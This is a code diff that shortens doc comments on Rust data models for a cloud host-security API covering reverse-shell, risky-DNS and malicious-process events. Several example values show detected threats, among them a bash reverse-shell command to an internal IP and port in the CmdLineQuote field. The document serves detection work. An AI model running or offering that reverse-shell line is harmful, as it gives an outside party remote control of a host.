-    /// `Pid`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Pid`; example: `1`
     pub pid: i64,
 
-    /// `RiskLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RiskLevel`; example: `1`
     pub risk_level: u64,
 
-    /// `CmdLineQuote`: a string.
-    ///
-    /// Example: `"sh -c bash -i >& /dev/tcp/10\\.1\\.1\\.28/1226 0>&1"`
+    /// `CmdLineQuote`; example: `"sh -c bash -i >& /dev/tcp/10\\.1\\.1\\.28/1226 0>&1"`
     pub cmd_line_quote: Option<String>,
 }
 
@@ -11754,149 +7664,91 @@ pub struct ReverseShell {
 /// Returned in the output of [`DescribeReverseShellEventInfo`](super::DescribeReverseShellEventInfo).
 #[tc_model]
 pub struct ReverseShellEventInfo {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `11`
+    /// `Id`; example: `11`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e8fc6e04-5b3d-405d-ab61-da7cc8be2583"`
+    /// `Uuid`; example: `"e8fc6e04-5b3d-405d-ab61-da7cc8be2583"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"e8fc6e04-5b3d-405d-ab61-da7cc8be2583"`
+    /// `Quuid`; example: `"e8fc6e04-5b3d-405d-ab61-da7cc8be2583"`
     pub quuid: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `HostIp`; example: `"127.0.0.1"`
     pub host_ip: String,
 
-    /// `DstIp`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `DstIp`; example: `"127.0.0.1"`
     pub dst_ip: String,
 
-    /// `DstPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `DstPort`; example: `12`
     pub dst_port: u64,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"1.exe"`
+    /// `ProcessName`; example: `"1.exe"`
     pub process_name: String,
 
-    /// `FullPath`: a string.
-    ///
-    /// Example: `"/home"`
+    /// `FullPath`; example: `"/home"`
     pub full_path: String,
 
-    /// `CmdLine`: a string.
-    ///
-    /// Example: `"dadad"`
+    /// `CmdLine`; example: `"dadad"`
     pub cmd_line: String,
 
-    /// `UserName`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserName`; example: `"root"`
     pub user_name: String,
 
-    /// `UserGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `UserGroup`; example: `"root"`
     pub user_group: String,
 
-    /// `ParentProcName`: a string.
-    ///
-    /// Example: `"2.exe"`
+    /// `ParentProcName`; example: `"2.exe"`
     pub parent_proc_name: String,
 
-    /// `ParentProcUser`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcUser`; example: `"root"`
     pub parent_proc_user: String,
 
-    /// `ParentProcGroup`: a string.
-    ///
-    /// Example: `"root"`
+    /// `ParentProcGroup`; example: `"root"`
     pub parent_proc_group: String,
 
-    /// `ParentProcPath`: a string.
-    ///
-    /// Example: `"/home"`
+    /// `ParentProcPath`; example: `"/home"`
     pub parent_proc_path: String,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Status`; example: `2`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-05-20 17:00:33"`
+    /// `CreateTime`; example: `"2021-05-20 17:00:33"`
     pub create_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"sasas"`
+    /// `MachineName`; example: `"sasas"`
     pub machine_name: String,
 
-    /// `DetectBy`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DetectBy`; example: `1`
     pub detect_by: u64,
 
-    /// `PsTree`: a string.
-    ///
-    /// Example: `"[{\"pid\":\"1\"}]"`
+    /// `PsTree`; example: `"[{\"pid\":\"1\"}]"`
     pub ps_tree: String,
 
-    /// `SuggestScheme`: a string.
-    ///
-    /// Example: `"建议方案"`
+    /// `SuggestScheme`; example: `"建议方案"`
     pub suggest_scheme: String,
 
-    /// `HarmDescribe`: a string.
-    ///
-    /// Example: `"desc of event"`
+    /// `HarmDescribe`; example: `"desc of event"`
     pub harm_describe: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["标签1","标签2"]`
+    /// `Tags`; example: `["标签1","标签2"]`
     pub tags: Vec<String>,
 
-    /// `References`: a list of strings.
-    ///
-    /// Example: `["http://www.tencent.com"]`
+    /// `References`; example: `["http://www.tencent.com"]`
     pub references: Vec<String>,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"124.2.4.55"`
+    /// `MachineWanIp`; example: `"124.2.4.55"`
     pub machine_wan_ip: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"OFFLINE"`
+    /// `MachineStatus`; example: `"OFFLINE"`
     pub machine_status: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `CmdLineQuote`: a string.
-    ///
-    /// Example: `"sh -c bash -i >& /dev/tcp/10\\.1\\.1\\.28/1226 0>&1"`
+    /// `CmdLineQuote`; example: `"sh -c bash -i >& /dev/tcp/10\\.1\\.1\\.28/1226 0>&1"`
     pub cmd_line_quote: Option<String>,
 
-    /// `RiskLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RiskLevel`; example: `1`
     pub risk_level: Option<u64>,
 }
 
@@ -11905,59 +7757,37 @@ pub struct ReverseShellEventInfo {
 /// Returned in the output of [`DescribeReverseShellRules`](super::DescribeReverseShellRules).
 #[tc_model]
 pub struct ReverseShellRule {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1001`
+    /// `Id`; example: `1001`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"df131b24-8528-4809-9d07-a9e4d58ad566"`
+    /// `Uuid`; example: `"df131b24-8528-4809-9d07-a9e4d58ad566"`
     pub uuid: String,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"nginx"`
+    /// `ProcessName`; example: `"nginx"`
     pub process_name: String,
 
-    /// `DestIp`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `DestIp`; example: `"127.0.0.1"`
     pub dest_ip: String,
 
-    /// `DestPort`: a string.
-    ///
-    /// Example: `"80"`
+    /// `DestPort`; example: `"80"`
     pub dest_port: String,
 
-    /// `Operator`: a string.
-    ///
-    /// Example: `"root"`
+    /// `Operator`; example: `"root"`
     pub operator: String,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsGlobal`; example: `1`
     pub is_global: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `CreateTime`; example: `"2024-11-04 09:57:28"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `ModifyTime`; example: `"2024-11-04 09:57:28"`
     pub modify_time: String,
 
-    /// `Hostip`: a string.
-    ///
-    /// Example: `"192.32.**.**"`
+    /// `Hostip`; example: `"192.32.**.**"`
     pub hostip: String,
 }
 
@@ -11966,78 +7796,50 @@ pub struct ReverseShellRule {
 /// Returned in the output of [`DescribeReverseShellRulesAggregation`](super::DescribeReverseShellRulesAggregation).
 #[tc_model]
 pub struct ReverseShellRuleAggregation {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `UuidHostips`: a list of [`UuidHostip`] objects.
+    /// `UuidHostips`
     pub uuid_hostips: Vec<UuidHostip>,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"/etc/sshd"`
+    /// `ProcessName`; example: `"/etc/sshd"`
     pub process_name: String,
 
-    /// `DestIp`: a string.
-    ///
-    /// Example: `"1.2.3.4"`
+    /// `DestIp`; example: `"1.2.3.4"`
     pub dest_ip: String,
 
-    /// `DestPort`: a string.
-    ///
-    /// Example: `"80"`
+    /// `DestPort`; example: `"80"`
     pub dest_port: String,
 
-    /// `Operator`: a string.
-    ///
-    /// Example: `"opt1"`
+    /// `Operator`; example: `"opt1"`
     pub operator: String,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsGlobal`; example: `1`
     pub is_global: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2020-10-01 00:00:00"`
+    /// `CreateTime`; example: `"2020-10-01 00:00:00"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2020-10-01 00:00:00"`
+    /// `ModifyTime`; example: `"2020-10-01 00:00:00"`
     pub modify_time: String,
 
-    /// `WhiteType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `WhiteType`; example: `1`
     pub white_type: u64,
 
-    /// `RuleRegexp`: a string.
-    ///
-    /// Example: `"sh.*d"`
+    /// `RuleRegexp`; example: `"sh.*d"`
     pub rule_regexp: String,
 
-    /// `HandleHistory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HandleHistory`; example: `0`
     pub handle_history: u64,
 
-    /// `GroupID`: a string.
-    ///
-    /// Example: `"1"`
+    /// `GroupID`; example: `"1"`
     #[tc(rename = "GroupID")]
     pub group_id: String,
 
-    /// `MachinesNums`: a string.
-    ///
-    /// Example: `"12"`
+    /// `MachinesNums`; example: `"12"`
     pub machines_nums: String,
 }
 
@@ -12046,130 +7848,82 @@ pub struct ReverseShellRuleAggregation {
 /// Returned in the output of [`DescribeRiskDnsEventInfo`](super::DescribeRiskDnsEventInfo) and [`DescribeRiskDnsEventList`](super::DescribeRiskDnsEventList).
 #[tc_model]
 pub struct RiskDnsEvent {
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `153`
+    /// `Id`; example: `153`
     pub id: i64,
 
-    /// `PolicyId`: a signed 64-bit integer.
-    ///
-    /// Example: `10000`
+    /// `PolicyId`; example: `10000`
     pub policy_id: i64,
 
-    /// `PolicyType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PolicyType`; example: `1`
     pub policy_type: i64,
 
-    /// `PolicyName`: a string.
-    ///
-    /// Example: `"系统规则(标准)"`
+    /// `PolicyName`; example: `"系统规则(标准)"`
     pub policy_name: String,
 
-    /// `ProtectLevel`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProtectLevel`; example: `1`
     pub protect_level: i64,
 
-    /// `HostId`: a string.
-    ///
-    /// Example: `"d1f53e38-3f03-4a72-bf16-afa78ed698f2"`
+    /// `HostId`; example: `"d1f53e38-3f03-4a72-bf16-afa78ed698f2"`
     pub host_id: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"security-data-se****"`
+    /// `HostName`; example: `"security-data-se****"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `WanIp`: a string.
-    ///
-    /// Example: `"13.22.3.1"`
+    /// `WanIp`; example: `"13.22.3.1"`
     pub wan_ip: String,
 
-    /// `AgentId`: a string.
-    ///
-    /// Example: `"a1f53e38-3f03-4a72-bf16-afa78dd698f3"`
+    /// `AgentId`; example: `"a1f53e38-3f03-4a72-bf16-afa78dd698f3"`
     pub agent_id: String,
 
-    /// `Domain`: a string.
-    ///
-    /// Example: `"re.r3r3.org"`
+    /// `Domain`; example: `"re.r3r3.org"`
     pub domain: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["vueir","mle"]`
+    /// `Tags`; example: `["vueir","mle"]`
     pub tags: Vec<String>,
 
-    /// `AccessCount`: a signed 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `AccessCount`; example: `10`
     pub access_count: i64,
 
-    /// `ThreatDesc`: a string.
-    ///
-    /// Example: `"威胁描述"`
+    /// `ThreatDesc`; example: `"威胁描述"`
     pub threat_desc: String,
 
-    /// `SuggestSolution`: a string.
+    /// `SuggestSolution`
     pub suggest_solution: String,
 
-    /// `ReferenceLink`: a string.
-    ///
-    /// Example: `"http://www.vxjump.net/files/virus_analysis/virut%20botnet%20anal"`
+    /// `ReferenceLink`; example: `"http://www.vxjump.net/files/virus_analysis/virut%20botnet%20anal"`
     pub reference_link: String,
 
-    /// `HandleStatus`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HandleStatus`; example: `1`
     pub handle_status: i64,
 
-    /// `Pid`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Pid`; example: `1`
     pub pid: i64,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"pidname"`
+    /// `ProcessName`; example: `"pidname"`
     pub process_name: String,
 
-    /// `ProcessMd5`: a string.
-    ///
-    /// Example: `"3c59dc048e8850243be8079a5c74d079"`
+    /// `ProcessMd5`; example: `"3c59dc048e8850243be8079a5c74d079"`
     pub process_md5: String,
 
-    /// `CmdLine`: a string.
-    ///
-    /// Example: `"cmd"`
+    /// `CmdLine`; example: `"cmd"`
     pub cmd_line: String,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `FirstTime`; example: `"2021-04-26 15:19:04"`
     pub first_time: String,
 
-    /// `LastTime`: a string.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `LastTime`; example: `"2022-07-15 11:27:01"`
     pub last_time: String,
 
-    /// `HostStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `HostStatus`; example: `"ONLINE"`
     pub host_status: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `OsType`: a signed 64-bit integer.
-    ///
-    /// Example: `6`
+    /// `OsType`; example: `6`
     pub os_type: Option<i64>,
 }
 
@@ -12178,114 +7932,70 @@ pub struct RiskDnsEvent {
 /// Returned in the output of [`DescribeRiskDnsInfo`](super::DescribeRiskDnsInfo) and [`DescribeRiskDnsList`](super::DescribeRiskDnsList).
 #[tc_model]
 pub struct RiskDnsList {
-    /// `Url`: a string.
-    ///
-    /// Example: `"re.r3r3.org"`
+    /// `Url`; example: `"re.r3r3.org"`
     pub url: String,
 
-    /// `AccessCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `22`
+    /// `AccessCount`; example: `22`
     pub access_count: u64,
 
-    /// `ProcessName`: a string.
-    ///
-    /// Example: `"pidname"`
+    /// `ProcessName`; example: `"pidname"`
     pub process_name: String,
 
-    /// `ProcessMd5`: a string.
-    ///
-    /// Example: `"4fwraaw32f"`
+    /// `ProcessMd5`; example: `"4fwraaw32f"`
     pub process_md5: String,
 
-    /// `GlobalRuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `22`
+    /// `GlobalRuleId`; example: `22`
     pub global_rule_id: u64,
 
-    /// `UserRuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `UserRuleId`; example: `12`
     pub user_rule_id: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `CreateTime`; example: `"2021-04-26 15:19:04"`
     pub create_time: String,
 
-    /// `MergeTime`: a string.
-    ///
-    /// Example: `"2021-04-26 15:19:04"`
+    /// `MergeTime`; example: `"2021-04-26 15:19:04"`
     pub merge_time: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"erwfr3frsaggrw3"`
+    /// `Quuid`; example: `"erwfr3frsaggrw3"`
     pub quuid: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"13.22.3.1"`
+    /// `HostIp`; example: `"13.22.3.1"`
     pub host_ip: String,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"别名"`
+    /// `Alias`; example: `"别名"`
     pub alias: String,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"desc of this risk"`
+    /// `Description`; example: `"desc of this risk"`
     pub description: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `153`
+    /// `Id`; example: `153`
     pub id: u64,
 
-    /// `Reference`: a string.
-    ///
-    /// Example: `"http://www.vxjump.net/files/virus_analysis/virut%20botnet%20anal"`
+    /// `Reference`; example: `"http://www.vxjump.net/files/virus_analysis/virut%20botnet%20anal"`
     pub reference: String,
 
-    /// `CmdLine`: a string.
-    ///
-    /// Example: `"cmd"`
+    /// `CmdLine`; example: `"cmd"`
     pub cmd_line: String,
 
-    /// `Pid`: an unsigned 64-bit integer.
-    ///
-    /// Example: `33`
+    /// `Pid`; example: `33`
     pub pid: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"124jygrq33"`
+    /// `Uuid`; example: `"124jygrq33"`
     pub uuid: String,
 
-    /// `SuggestScheme`: a string.
-    ///
-    /// Example: `"建议方案"`
+    /// `SuggestScheme`; example: `"建议方案"`
     pub suggest_scheme: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["vueir","mle"]`
+    /// `Tags`; example: `["vueir","mle"]`
     pub tags: Vec<String>,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"13.22.3.1"`
+    /// `MachineWanIp`; example: `"13.22.3.1"`
     pub machine_wan_ip: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"OFFLINE"`
+    /// `MachineStatus`; example: `"OFFLINE"`
     pub machine_status: String,
 }
 
@@ -12295,65 +8005,40 @@ pub struct RiskDnsList {
 /// Returned in the output of [`DescribeRiskDnsPolicyList`](super::DescribeRiskDnsPolicyList).
 #[tc_model]
 pub struct RiskDnsPolicy {
-    /// `PolicyName`: a string.
-    ///
-    /// Example: `"policyName"`
+    /// `PolicyName`; example: `"policyName"`
     pub policy_name: String,
 
-    /// `PolicyType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PolicyType`; example: `1`
     pub policy_type: i64,
 
-    /// `PolicyAction`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `PolicyAction`; example: `1`
     pub policy_action: i64,
 
-    /// `HostScope`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HostScope`; example: `1`
     pub host_scope: i64,
 
-    /// `HostIds`: a list of strings.
+    /// `HostIds`
     pub host_ids: Vec<String>,
 
-    /// `Domains`: a list of strings.
+    /// `Domains`
     pub domains: Vec<String>,
 
-    /// `IsEnabled`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `IsEnabled`; example: `1`
     pub is_enabled: i64,
 
-    /// `PolicyId`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `PolicyId`, always sent in responses; example: `1`
     pub policy_id: Option<i64>,
 
-    /// `PolicyDesc`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"接口自动化测试"`
+    /// `PolicyDesc`, always sent in responses; example: `"接口自动化测试"`
     pub policy_desc: Option<String>,
 
-    /// `IsDealOldEvent`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `IsDealOldEvent`, always sent in responses; example: `1`
     pub is_deal_old_event: Option<i64>,
 
-    /// `UpdateTime`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"2022-07-15 11:27:01"`
+    /// `UpdateTime`, always sent in responses; example: `"2022-07-15 11:27:01"`
     pub update_time: Option<String>,
 
-    /// `EventId`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `EventId`, always sent in responses; example: `1`
     pub event_id: Option<i64>,
 }
 
@@ -12362,9 +8047,7 @@ pub struct RiskDnsPolicy {
 /// Returned in the output of [`DescribeInjectRiskyServiceSwitch`](super::DescribeInjectRiskyServiceSwitch).
 #[tc_model]
 pub struct RiskMainClass {
-    /// `ServiceName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `ServiceName`; example: `"1"`
     pub service_name: String,
 }
 
@@ -12373,111 +8056,71 @@ pub struct RiskMainClass {
 /// Returned in the output of [`DescribeRiskProcessEvents`](super::DescribeRiskProcessEvents).
 #[tc_model]
 pub struct RiskProcessEvent {
-    /// `EventId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventId`; example: `1`
     pub event_id: i64,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"儿童网游s****"`
+    /// `HostName`; example: `"儿童网游s****"`
     pub host_name: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `WanIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `WanIp`; example: `"10.0.0.1"`
     pub wan_ip: String,
 
-    /// `ProcessId`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `ProcessId`; example: `1`
     pub process_id: i64,
 
-    /// `FilePath`: a string.
-    ///
-    /// Example: `"/var/www/fscan"`
+    /// `FilePath`; example: `"/var/www/fscan"`
     pub file_path: String,
 
-    /// `CmdLine`: a string.
-    ///
-    /// Example: `"/usr/sbin/sshd"`
+    /// `CmdLine`; example: `"/usr/sbin/sshd"`
     pub cmd_line: String,
 
-    /// `StartTime`: a string.
-    ///
-    /// Example: `"2022-09-23 15:11:46"`
+    /// `StartTime`; example: `"2022-09-23 15:11:46"`
     pub start_time: String,
 
-    /// `DetectTime`: a string.
-    ///
-    /// Example: `"2022-09-23 15:11:46"`
+    /// `DetectTime`; example: `"2022-09-23 15:11:46"`
     pub detect_time: String,
 
-    /// `VirusName`: a string.
-    ///
-    /// Example: `"Linux.Risk.Miner"`
+    /// `VirusName`; example: `"Linux.Risk.Miner"`
     pub virus_name: String,
 
-    /// `CheckPlatform`: a list of strings.
-    ///
-    /// Example: `["1"]`
+    /// `CheckPlatform`; example: `["1"]`
     pub check_platform: Vec<String>,
 
-    /// `VirusTags`: a list of strings.
-    ///
-    /// Example: `["Miner","HackTool"]`
+    /// `VirusTags`; example: `["Miner","HackTool"]`
     pub virus_tags: Vec<String>,
 
-    /// `ThreatDesc`: a string.
+    /// `ThreatDesc`
     pub threat_desc: String,
 
-    /// `SuggestSolution`: a string.
-    ///
-    /// Example: `"1.检查恶意进程及非法端口"`
+    /// `SuggestSolution`; example: `"1.检查恶意进程及非法端口"`
     pub suggest_solution: String,
 
-    /// `ReferenceLink`: a string.
-    ///
-    /// Example: `"https://cloud.tencent.com/document/product/296/9604"`
+    /// `ReferenceLink`; example: `"https://cloud.tencent.com/document/product/296/9604"`
     pub reference_link: String,
 
-    /// `HandleStatus`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HandleStatus`; example: `1`
     pub handle_status: i64,
 
-    /// `OnlineStatus`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `OnlineStatus`; example: `1`
     pub online_status: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"e05a66ec-8d54-4041-80a8-07e9ab79****"`
+    /// `Uuid`; example: `"e05a66ec-8d54-4041-80a8-07e9ab79****"`
     pub uuid: String,
 
-    /// `FirstDetectionMethod`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FirstDetectionMethod`; example: `1`
     pub first_detection_method: Option<u64>,
 
-    /// `QUUID`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `QUUID`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     #[tc(rename = "QUUID")]
     pub quuid: Option<String>,
 
-    /// `ExeMd5`: a string.
-    ///
-    /// Example: `"81627048b6aea0c94256a1aaf8da617e"`
+    /// `ExeMd5`; example: `"81627048b6aea0c94256a1aaf8da617e"`
     pub exe_md5: Option<String>,
 }
 
@@ -12486,13 +8129,13 @@ pub struct RiskProcessEvent {
 /// Returned in the output of [`DescribeLogIndex`](super::DescribeLogIndex).
 #[tc_model]
 pub struct RuleInfo {
-    /// `FullText`: a [`FullTextInfo`].
+    /// `FullText`
     pub full_text: FullTextInfo,
 
-    /// `KeyValue`: a [`KeyValueInfo`].
+    /// `KeyValue`
     pub key_value: KeyValueInfo,
 
-    /// `Tag`: a [`KeyValueInfo`].
+    /// `Tag`
     pub tag: KeyValueInfo,
 }
 
@@ -12501,72 +8144,46 @@ pub struct RuleInfo {
 /// Returned in the output of [`DescribeScanTaskDetails`](super::DescribeScanTaskDetails).
 #[tc_model]
 pub struct ScanTaskDetails {
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.0.0.1"`
+    /// `HostIp`; example: `"10.0.0.1"`
     pub host_ip: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"test-agent"`
+    /// `HostName`; example: `"test-agent"`
     pub host_name: String,
 
-    /// `OsName`: a string.
-    ///
-    /// Example: `"win64"`
+    /// `OsName`; example: `"win64"`
     pub os_name: String,
 
-    /// `RiskNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RiskNum`; example: `1`
     pub risk_num: u64,
 
-    /// `ScanBeginTime`: a string.
-    ///
-    /// Example: `"2024-10-29 10:35:50"`
+    /// `ScanBeginTime`; example: `"2024-10-29 10:35:50"`
     pub scan_begin_time: String,
 
-    /// `ScanEndTime`: a string.
-    ///
-    /// Example: `"2024-10-29 10:39:50"`
+    /// `ScanEndTime`; example: `"2024-10-29 10:39:50"`
     pub scan_end_time: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"badea25d-d702-4f68-8906-0580c0a13170"`
+    /// `Uuid`; example: `"badea25d-d702-4f68-8906-0580c0a13170"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"badea25d-d702-4f68-8906-0580c0a13170"`
+    /// `Quuid`; example: `"badea25d-d702-4f68-8906-0580c0a13170"`
     pub quuid: String,
 
-    /// `Status`: a string.
-    ///
-    /// Example: `"Fail"`
+    /// `Status`; example: `"Fail"`
     pub status: String,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"失败"`
+    /// `Description`; example: `"失败"`
     pub description: String,
 
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `FailType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `4`
+    /// `FailType`; example: `4`
     pub fail_type: u64,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"172.22.11.12"`
+    /// `MachineWanIp`; example: `"172.22.11.12"`
     pub machine_wan_ip: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -12575,29 +8192,19 @@ pub struct ScanTaskDetails {
 /// Returned in the output of [`DescribeScreenAttackHotspot`](super::DescribeScreenAttackHotspot).
 #[tc_model]
 pub struct ScreenAttackHotspot {
-    /// `EventName`: a string.
-    ///
-    /// Example: `"命令注入攻击"`
+    /// `EventName`; example: `"命令注入攻击"`
     pub event_name: String,
 
-    /// `SrcIp`: a string.
-    ///
-    /// Example: `"12.23.212.2"`
+    /// `SrcIp`; example: `"12.23.212.2"`
     pub src_ip: String,
 
-    /// `DstIp`: a string.
-    ///
-    /// Example: `"12.23.212.2"`
+    /// `DstIp`; example: `"12.23.212.2"`
     pub dst_ip: String,
 
-    /// `Region`: a string.
-    ///
-    /// Example: `"广州"`
+    /// `Region`; example: `"广州"`
     pub region: String,
 
-    /// `CreatedTime`: a string.
-    ///
-    /// Example: `"2021-03-30"`
+    /// `CreatedTime`; example: `"2021-03-30"`
     pub created_time: String,
 }
 
@@ -12606,34 +8213,22 @@ pub struct ScreenAttackHotspot {
 /// Returned in the output of [`DescribeScreenHostInvasion`](super::DescribeScreenHostInvasion).
 #[tc_model]
 pub struct ScreenBaselineInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"国际标准"`
+    /// `Name`; example: `"国际标准"`
     pub name: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `CategoryId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `CategoryId`; example: `12`
     pub category_id: u64,
 
-    /// `LastScanTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `LastScanTime`; example: `"2021-03-30 19:17:28"`
     pub last_scan_time: String,
 
-    /// `BaselineFailCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `23`
+    /// `BaselineFailCount`; example: `23`
     pub baseline_fail_count: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"1c26308c-5493-4eaf-a817-112ec25f499e"`
+    /// `Uuid`; example: `"1c26308c-5493-4eaf-a817-112ec25f499e"`
     pub uuid: String,
 }
 
@@ -12642,24 +8237,16 @@ pub struct ScreenBaselineInfo {
 /// Returned in the output of [`DescribeScreenBroadcasts`](super::DescribeScreenBroadcasts).
 #[tc_model]
 pub struct ScreenBroadcasts {
-    /// `Title`: a string.
-    ///
-    /// Example: `"发现**漏洞"`
